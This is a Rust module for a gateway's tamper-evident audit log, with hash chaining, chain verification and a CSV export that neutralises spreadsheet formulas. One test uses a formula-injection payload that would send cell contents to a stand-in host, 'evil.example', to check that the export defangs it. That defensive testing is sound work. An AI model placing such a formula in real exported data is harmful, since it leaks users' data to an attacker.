//! The audit log: who logged in (or failed to), viewed a home, acknowledged or cleared an
//! alert, and changed an account. Append-only, with tamper evidence.
//!
//! Each entry's `hash` is SHA-256 over the previous entry's hash and this entry's fields
//! (as a JSON array, so no field can bleed into the next). Changing, removing or inserting
//! an entry breaks the chain from that entry on, which [`verify`] reports. SQLite triggers
//! refuse `UPDATE` and `DELETE` on the table, so the gateway itself cannot rewrite it; an
//! attacker with the file can, but not without [`verify`] noticing unless they recompute
//! every later hash. Exporting the log regularly (and keeping the last hash elsewhere)
//! closes that gap; `mamori-gateway audit export` prints it.
//!
//! Appending takes SQLite's write lock (`BEGIN IMMEDIATE`), so the dashboard and the CLI
//! can both append without forking the chain.

use rusqlite::{params, Connection, OptionalExtension};
use serde::Serialize;
use sha2::{Digest, Sha256};

use crate::engine::Time;

/// The hash before the first entry.
pub const GENESIS: &str = "0000000000000000000000000000000000000000000000000000000000000000";

/// One entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Entry {
    /// Position, from 1.
    pub seq: i64,
    /// When (UTC, RFC 3339).
    pub at: String,
    /// The account (`cli:<os user>` from the command line, `-` before login).
    pub actor: String,
    /// The client's address (`-` from the command line).
    pub ip: String,
    /// What: `login`, `login_failed`, `logout`, `view_home`, `ack`, `clear`, `user_add`, ...
    pub action: String,
    /// On what: a home, an alert, an account.
    pub target: String,
    /// More (a note, a reason).
    pub detail: String,
    /// The previous entry's hash.
    pub prev: String,
    /// This entry's hash.
    pub hash: String,
}

/// `fields`: at, actor, ip, action, target, detail.
fn digest(prev: &str, seq: i64, fields: [&str; 6]) -> String {
    let [at, actor, ip, action, target, detail] = fields;
    let fields = serde_json::json!([prev, seq, at, actor, ip, action, target, detail]);
    hex::encode(Sha256::digest(fields.to_string().as_bytes()))
}

/// Append an entry; returns it.
pub fn append(
    conn: &Connection,
    at: Time,
    actor: &str,
    ip: &str,
    action: &str,
    target: &str,
    detail: &str,
) -> rusqlite::Result<Entry> {
    let tx = rusqlite::Transaction::new_unchecked(conn, rusqlite::TransactionBehavior::Immediate)?;
    let last: Option<(i64, String)> = tx
        .query_row("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1", [], |r| Ok((r.get(0)?, r.get(1)?)))
        .optional()?;
    let (seq, prev) = last.map_or((1, GENESIS.to_string()), |(s, h)| (s + 1, h));
    let at = at.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string();
    let detail: String = detail.chars().take(500).collect();
    let hash = digest(&prev, seq, [&at, actor, ip, action, target, &detail]);
    tx.execute(
        "INSERT INTO audit (seq, at, actor, ip, action, target, detail, prev, hash) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9)",
        params![seq, at, actor, ip, action, target, detail, prev, hash],
    )?;
    tx.commit()?;
    Ok(Entry {
        seq,
        at,
        actor: actor.into(),
        ip: ip.into(),
        action: action.into(),
        target: target.into(),
        detail,
        prev,
        hash,
    })
}

/// Entries, newest first (`before`: only entries with a smaller `seq`).
pub fn entries(conn: &Connection, before: Option<i64>, limit: usize) -> rusqlite::Result<Vec<Entry>> {
    let mut stmt = conn.prepare(
        "SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit WHERE seq < ?1 ORDER BY seq DESC LIMIT ?2",
    )?;
    let rows = stmt.query_map(params![before.unwrap_or(i64::MAX), limit as i64], row)?;
    rows.collect()
}

fn row(r: &rusqlite::Row<'_>) -> rusqlite::Result<Entry> {
    Ok(Entry {
        seq: r.get(0)?,
        at: r.get(1)?,
        actor: r.get(2)?,
        ip: r.get(3)?,
        action: r.get(4)?,
        target: r.get(5)?,
        detail: r.get(6)?,
        prev: r.get(7)?,
        hash: r.get(8)?,
    })
}

/// What [`verify`] found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub enum Verdict {
    /// The chain holds over this many entries; the last hash.
    Intact {
        /// Entries checked.
        entries: u64,
        /// The last entry's hash (keep it elsewhere to detect a rewritten tail).
        head: String,
    },
    /// The first entry that does not follow.
    Broken {
        /// Its `seq`.
        seq: i64,
        /// Why.
        reason: String,
    },
}

/// Walk the whole chain.
pub fn verify(conn: &Connection) -> rusqlite::Result<Verdict> {
    let mut stmt =
        conn.prepare("SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit ORDER BY seq")?;
    let mut rows = stmt.query([])?;
    let (mut prev, mut expect_seq, mut n) = (GENESIS.to_string(), 1i64, 0u64);
    while let Some(r) = rows.next()? {
        let e = row(r)?;
        let broken = |reason: &str| Ok(Verdict::Broken { seq: e.seq, reason: reason.to_string() });
        if e.seq != expect_seq {
            return broken(&format!("entry {expect_seq} is missing"));
        }
        if e.prev != prev {
            return broken("it does not point at the previous entry's hash");
        }
        if digest(&e.prev, e.seq, [&e.at, &e.actor, &e.ip, &e.action, &e.target, &e.detail]) != e.hash {
            return broken("its contents do not match its hash");
        }
        prev = e.hash;
        expect_seq += 1;
        n += 1;
    }
    Ok(Verdict::Intact { entries: n, head: prev })
}

/// The whole log as CSV (RFC 4180), oldest first.
///
/// Every text cell is quoted, and one that a spreadsheet would take for a formula (it starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return: a username typed at the login form,
/// say) is prefixed with `'`, so it is shown, never run. The hashes are computed over the
/// stored values, not the exported ones.
pub fn export_csv(conn: &Connection, out: &mut impl std::io::Write) -> anyhow::Result<u64> {
    let q = |s: &str| format!("\"{}\"", csv_text(s).replace('"', "\"\""));
    writeln!(out, "seq,at,actor,ip,action,target,detail,prev,hash")?;
    let mut stmt =
        conn.prepare("SELECT seq, at, actor, ip, action, target, detail, prev, hash FROM audit ORDER BY seq")?;
    let mut rows = stmt.query([])?;
    let mut n = 0;
    while let Some(r) = rows.next()? {
        let e = row(r)?;
        writeln!(
            out,
            "{},{},{},{},{},{},{},{},{}",
            e.seq,
            e.at,
            q(&e.actor),
            q(&e.ip),
            q(&e.action),
            q(&e.target),
            q(&e.detail),
            e.prev,
            e.hash
        )?;
        n += 1;
    }
    Ok(n)
}

/// A text cell a spreadsheet shows and does not evaluate.
pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn db() -> (tempfile::TempDir, crate::store::SqliteStore) {
        let dir = tempfile::tempdir().unwrap();
        let s = crate::store::SqliteStore::open(dir.path()).unwrap();
        (dir, s)
    }

    fn t(s: i64) -> Time {
        chrono::DateTime::from_timestamp(1_790_000_000 + s, 0).unwrap()
    }

    #[test]
    fn the_chain_holds_and_notices_an_edit_a_removal_and_a_rewrite() {
        let (_d, s) = db();
        let c = s.conn();
        for i in 0..5 {
            append(c, t(i), "sato", "192.0.2.1", "view_home", &format!("home-{i}"), "").unwrap();
        }
        let Verdict::Intact { entries, head } = verify(c).unwrap() else { panic!("intact") };
        assert_eq!(entries, 5);
        assert_eq!(head, entries_head(c));

        // The gateway cannot change or remove an entry.
        assert!(c.execute("UPDATE audit SET actor = 'x' WHERE seq = 2", []).is_err());
        assert!(c.execute("DELETE FROM audit WHERE seq = 2", []).is_err());

        // Someone with the file can, after dropping the triggers; the chain notices.
        c.execute_batch("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;").unwrap();
        c.execute("UPDATE audit SET target = 'home-9' WHERE seq = 3", []).unwrap();
        assert!(matches!(verify(c).unwrap(), Verdict::Broken { seq: 3, .. }));
        c.execute("UPDATE audit SET target = 'home-2' WHERE seq = 3", []).unwrap();
        assert!(matches!(verify(c).unwrap(), Verdict::Intact { .. }));
        c.execute("DELETE FROM audit WHERE seq = 4", []).unwrap();
        assert_eq!(verify(c).unwrap(), Verdict::Broken { seq: 5, reason: "entry 4 is missing".into() });
    }

    fn entries_head(c: &Connection) -> String {
        entries(c, None, 1).unwrap()[0].hash.clone()
    }

    #[test]
    fn the_export_is_csv_with_quotes_doubled() {
        let (_d, s) = db();
        append(s.conn(), t(0), "sato", "-", "ack", "abc", "note with \"quotes\", and a comma").unwrap();
        let mut out = Vec::new();
        assert_eq!(export_csv(s.conn(), &mut out).unwrap(), 1);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\"note with \"\"quotes\"\", and a comma\""), "{text}");
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_exported_as_text() {
        let (_d, s) = db();
        let evil = r#"=HYPERLINK("http://evil.example/?"&B2,"Open")"#;
        append(s.conn(), t(0), evil, "-", "login_failed", evil, "").unwrap();
        for lead in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            append(s.conn(), t(1), lead, "-", "login_failed", "x", "").unwrap();
        }
        let mut out = Vec::new();
        export_csv(s.conn(), &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&B2,""Open"")""#), "{text}");
        for cell in text.lines().skip(1).flat_map(|l| l.split(',')).filter(|c| c.starts_with('"')) {
            let inner = cell.trim_matches('"');
            assert!(!inner.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} in {text}");
        }
        assert!(matches!(verify(s.conn()).unwrap(), Verdict::Intact { .. }), "the chain is over the stored values");
    }
}
